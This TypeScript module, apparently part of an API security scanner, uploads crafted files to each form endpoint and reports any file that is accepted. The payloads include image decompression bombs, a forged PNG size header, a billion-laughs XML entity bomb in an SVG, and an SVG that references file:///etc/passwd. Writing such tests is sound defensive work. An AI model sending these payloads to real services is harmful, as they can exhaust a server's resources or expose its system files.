import sharp from 'sharp'
import type { Attack } from './attack.ts'
import { filePart, formOf, onePixel, textPart } from './encodeBody.ts'
import type { Operation } from './openApi.ts'
import type { Sent } from './sender.ts'

const part = 'bytes'
const megabyte = 1024 * 1024

/** Files that are small, and huge when they are unpacked, and files that are no pictures. */
export async function sendPictureBombs(attack: Attack) {
  const { sender, callers, operations, report, isLong } = attack
  const black = (width: number, height: number) =>
    sharp({ create: { width, height, channels: 3, background: '#000' }, limitInputPixels: false })
  const files: Record<string, Buffer> = {
    'a picture of 16,000 × 16,000 pixels': isLong ? await black(16_000, 16_000).png().toBuffer() : onePixel,
    'a picture that claims 2,000,000,000 pixels': claiming(onePixel, 65_000, 65_000),
    'half a picture': onePixel.subarray(0, 40),
    'an SVG that contains itself': Buffer.from(billionLaughs),
    'an SVG that reads a file': Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
    ),
    'a GIF with 1,000 frames': Buffer.concat([
      Buffer.from('GIF89a\x10\x00\x10\x00\x00\x00\x00', 'latin1'),
      Buffer.alloc(20_000, '!\xf9\x04\0\0\0\0\0'),
    ]),
    'a program': Buffer.from('\x7fELF\x02\x01\x01'),
    nothing: Buffer.alloc(0),
    '10 MB of zeros': Buffer.alloc(10 * megabyte - 1),
  }
  const headers = await callers.headersOf('admin')
  for (const operation of operations.filter(({ isForm }) => isForm)) {
    for (const [what, file] of Object.entries(files)) {
      const { type = '', body } = formWith(operation, file)
      const sent: Sent = {
        method: operation.method,
        path: operation.path,
        headers: { ...headers, 'content-type': type },
        ...(body && { body }),
      }
      const answer = await sender.send(sent)
      report.count(part, { ...sent, body: what }, answer)
      if (answer.status === 200 && file !== onePixel && !what.includes('16,000')) {
        report.find(part, `${what} was accepted as a picture`, { ...sent, body: what })
      }
    }
  }
}

/** A valid form of an upload with this file. */
function formWith(operation: Operation, file: Buffer) {
  const texts = Object.entries(operation.body?.properties ?? {}).filter(([, { format }]) => format !== 'binary')
  const fields = Object.entries(operation.body?.properties ?? {}).filter(([, { format }]) => format === 'binary')
  const value = { id: 1, store_id: 1, alt: 'A', device: 'Bomb', product_type: 'Accessories' }
  const allowed = (schema: (typeof texts)[number][1]) =>
    Object.fromEntries(Object.entries(value).filter(([name]) => schema.properties?.[name]))
  return formOf([
    ...texts.map(([name, schema]) => textPart(name, JSON.stringify(allowed(schema)))),
    ...fields.map(([name]) => filePart(name, file)),
  ])
}

/** A PNG whose header has another size than its content. */
function claiming(png: Buffer, width: number, height: number) {
  const copy = Buffer.from(png)
  copy.writeUInt32BE(width, 16)
  copy.writeUInt32BE(height, 20)
  return copy
}

const billionLaughs = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha">${Array.from('bcdefghij', (name, at) => `<!ENTITY ${name} "${`&${'abcdefghij'[at]};`.repeat(10)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`
